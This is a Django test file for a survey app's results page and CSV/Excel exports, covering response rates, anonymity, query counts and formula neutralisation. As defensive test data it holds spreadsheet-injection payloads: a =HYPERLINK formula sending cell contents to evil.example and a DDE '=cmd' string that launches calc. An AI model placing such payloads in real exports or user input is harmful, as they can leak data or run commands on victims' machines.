import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from delegations.tests.factories import DelegationFactory, OrganisationFactory, make_membership
from gfmd.spreadsheets import neutralise
from surveys.exports import results_csv, results_xlsx
from surveys.models import Invitation
from surveys.selectors import survey_results
from surveys.services import response_submit
from surveys.tests.factories import InvitationFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _answer(invitation, questions, **values):
    ordered = [questions[name] for name in ("theme", "coherence", "which", "scale", "comments")]
    by_name = {questions[name].pk: value for name, value in values.items()}
    return response_submit(invitation=invitation, questions=ordered, values=by_name)


@pytest.fixture
def answered(survey, questions):
    """Ghana (Steering Group, Africa) and Mexico (Friends, Americas) answered; an observer did not."""
    ghana = Invitation.objects.create(
        survey=survey, delegation=DelegationFactory(country="GH", name="Ghana", region="africa")
    )
    make_membership(ghana.delegation, survey.meeting, steering_group=True)
    mexico = Invitation.objects.create(
        survey=survey, delegation=DelegationFactory(country="MX", name="Mexico", region="americas")
    )
    make_membership(mexico.delegation, survey.meeting, friends_of_the_forum=True)
    iom = Invitation.objects.create(survey=survey, delegation=OrganisationFactory(name="IOM"))
    make_membership(iom.delegation, survey.meeting, friends_of_the_forum=True)
    agree, changes = questions["theme"].options.all()[:2]
    _answer(ghana, questions, theme=agree.pk, coherence=True, which="A national commission", scale=4, comments=HOSTILE)
    _answer(mexico, questions, theme=changes.pk, coherence=False, scale=5, comments="More on climate change")
    return {"ghana": ghana, "mexico": mexico}


def test_response_rates_overall_by_group_region_and_kind(survey, answered):
    results = survey_results(survey)
    assert (results.overall.invited, results.overall.responded, results.overall.percent) == (3, 2, 67)
    assert [(r.label, r.invited, r.responded) for r in results.by_group] == [
        ("Steering Group", 1, 1),
        ("Friends of the Forum", 2, 1),
    ]
    assert [(r.label, r.invited, r.responded) for r in results.by_region] == [
        ("Africa", 1, 1),
        ("Americas", 1, 1),
        ("Global", 1, 0),
    ]
    assert [(r.label, r.invited, r.responded) for r in results.by_kind] == [
        ("State", 2, 2),
        ("Observer organisation", 1, 0),
    ]
    assert results.respondents == ["Ghana", "Mexico"]


def test_counts_mean_and_free_text_per_question(survey, questions, answered):
    by_question = {result.question.pk: result for result in survey_results(survey).questions}
    theme = by_question[questions["theme"].pk]
    assert [(c.label, c.count, c.percent) for c in theme.counts] == [
        ("Agree", 1, 50),
        ("Agree with changes", 1, 50),
        ("Disagree", 0, 0),
    ]
    assert [(c.label, c.count) for c in by_question[questions["coherence"].pk].counts] == [("Yes", 1), ("No", 1)]
    assert by_question[questions["scale"].pk].mean == 4.5
    assert [(t.text, t.respondent) for t in by_question[questions["comments"].pk].texts] == [
        (HOSTILE, "Ghana"),
        ("More on climate change", "Mexico"),
    ]


def test_anonymous_results_show_who_responded_never_what_they_answered(client, chair, survey, questions):
    survey.anonymous = True
    survey.save()
    invitation = Invitation.objects.create(survey=survey, delegation=DelegationFactory(country="GH", name="Ghana"))
    _answer(invitation, questions, coherence=False, comments="Candid remark")

    results = survey_results(survey)
    [text] = next(r for r in results.questions if r.question == questions["comments"]).texts
    assert (results.respondents, text.text, text.respondent) == (["Ghana"], "Candid remark", "")

    client.force_login(chair)
    page = client.get(reverse("surveys:results", args=[survey.pk])).content.decode()
    assert "Candid remark" in page
    assert "— Ghana" not in page
    header = next(csv.reader(io.StringIO(results_csv(survey))))
    assert header[0] == "1. Do you agree with the theme?"  # no respondent, delegation or time column


def test_results_page_draws_a_chart_for_each_choice_question(client, chair, survey, questions, answered):
    client.force_login(chair)
    response = client.get(reverse("surveys:results", args=[survey.pk]))
    page = response.content.decode()
    assert page.count('<svg class="survey-chart"') == 3  # single choice, yes/no, scale
    summary = "Agree: 1 (50%); Agree with changes: 1 (50%); Disagree: 0 (0%)"
    assert f'<desc id="chart-{questions["theme"].pk}-desc">{summary}</desc>' in page
    assert "More on climate change" in page
    assert "<script" not in page.split("<main")[1].split("</main>")[0]


@pytest.mark.parametrize("count", [1, 3])
def test_results_page_query_count_does_not_grow(client, chair, survey, questions, django_assert_num_queries, count):
    for _ in range(count):
        _answer(InvitationFactory(survey=survey), questions, coherence=True, which="x", scale=3)
    client.force_login(chair)
    # session, user, survey, groups, menu, lock check; the rates (totals, by region, by kind), the
    # first respondents; answers per question, the tally of each value, the first free texts; the
    # sections, questions, options and condition options; the submitted count. Counted by the
    # database: the same at any number of answers.
    with django_assert_num_queries(18):
        client.get(reverse("surveys:results", args=[survey.pk]))


@pytest.mark.parametrize("view", ["export_csv", "export_xlsx"])
@pytest.mark.parametrize("count", [1, 3])
def test_exports_stream_with_the_same_queries_for_any_number_of_responses(
    client, chair, survey, questions, count, view
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    for _ in range(count):
        _answer(InvitationFactory(survey=survey), questions, coherence=True, which="x", scale=3)
    client.force_login(chair)
    with CaptureQueriesContext(connection) as queries:
        response = client.get(reverse(f"surveys:{view}", args=[survey.pk]))
        assert response.streaming
        content = b"".join(response.streaming_content)
    assert content
    # The responses are read in chunks, each with its answers: one query each per 500 responses.
    expected = {"export_csv": 10, "export_xlsx": 23}[view]
    assert len(queries) == expected, [query["sql"][:80] for query in queries.captured_queries]


def test_anonymous_exports_follow_the_shuffle_key_not_the_order_of_answering(survey, questions):
    from surveys.models import Response

    survey.anonymous = True
    survey.save()
    for text in ("first", "second", "third"):
        invitation = Invitation.objects.create(survey=survey, delegation=DelegationFactory())
        _answer(invitation, questions, coherence=False, comments=text)
    for key, text in zip((30, 10, 20), ("first", "second", "third"), strict=True):
        Response.objects.filter(answers__value=text).update(shuffle=key)
    rows = list(csv.reader(io.StringIO(results_csv(survey))))[1:]
    assert [row[-1] for row in rows] == ["second", "third", "first"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+33 1 23", "'+33 1 23"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        (" =padded", "' =padded"),
        ("Plain text", "Plain text"),
        (5, 5),
    ],
)
def test_neutralise_formula_starts(value, expected):
    assert neutralise(value) == expected


def test_csv_export_neutralises_formulas(survey, questions, answered):
    rows = list(csv.reader(io.StringIO(results_csv(survey))))
    comments_column = rows[0].index("5. Comments") if "5. Comments" in rows[0] else len(rows[0]) - 1
    assert rows[0][:3] == ["Respondent", "Delegation", "Submitted at (UTC)"]
    assert [row[0] for row in rows[1:]] == ["Ghana", "Mexico"]
    assert rows[1][comments_column] == "'" + HOSTILE
    assert rows[1][3:7] == ["Agree", "Yes", "A national commission", "4"]


def test_xlsx_export_neutralises_formulas(survey, questions, answered):
    workbook = load_workbook(io.BytesIO(results_xlsx(survey)))
    sheet = workbook["Answers"]
    ghana = [cell for cell in sheet[2]]
    comments = ghana[-1]
    assert (comments.value, comments.data_type) == ("'" + HOSTILE, "s")
    assert [cell.value for cell in ghana[3:7]] == ["Agree", "Yes", "A national commission", 4]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    rates = workbook["Response rate"]
    assert [cell.value for cell in rates[2]] == ["All invited", 3, 2, 67]


def test_a_delegation_named_like_a_formula_is_neutralised_in_the_xlsx(survey, questions):
    invitation = Invitation.objects.create(survey=survey, delegation=OrganisationFactory(name="=cmd|' /C calc'!A0"))
    _answer(invitation, questions, coherence=False)
    workbook = load_workbook(io.BytesIO(results_xlsx(survey)))
    assert workbook["Answers"]["A2"].value == "'=cmd|' /C calc'!A0"
    respondents = [row[0].value for row in workbook["Response rate"].iter_rows()]
    assert respondents[-2:] == ["Responded", "'=cmd|' /C calc'!A0"]


def test_the_page_shows_the_first_texts_and_respondents_and_says_how_many_more(
    client, chair, survey, questions, monkeypatch
):
    from surveys import selectors

    monkeypatch.setattr(selectors, "TEXTS_SHOWN", 2)
    monkeypatch.setattr(selectors, "RESPONDENTS_SHOWN", 2)
    for name in ("Benin", "Chile", "Albania"):
        invitation = Invitation.objects.create(survey=survey, delegation=DelegationFactory(name=name))
        _answer(invitation, questions, coherence=False, comments=f"Remark of {name}")
    results = selectors.survey_results(survey)
    assert (results.respondents, results.more_respondents) == (["Albania", "Benin"], 1)
    comments = next(r for r in results.questions if r.question == questions["comments"])
    assert [(t.text, t.respondent) for t in comments.texts] == [
        ("Remark of Albania", "Albania"),
        ("Remark of Benin", "Benin"),
    ]
    assert (comments.answered, comments.more_texts) == (3, 1)
    # The PDF report lists everything.
    complete = selectors.survey_results(survey, complete=True)
    assert len(complete.respondents) == 3
    assert len(next(r for r in complete.questions if r.question == questions["comments"]).texts) == 3
    client.force_login(chair)
    page = client.get(reverse("surveys:results", args=[survey.pk])).content.decode()
    assert "and 1 more: see the invitations" in page
    assert "1 further answer is in the CSV and Excel exports." in page
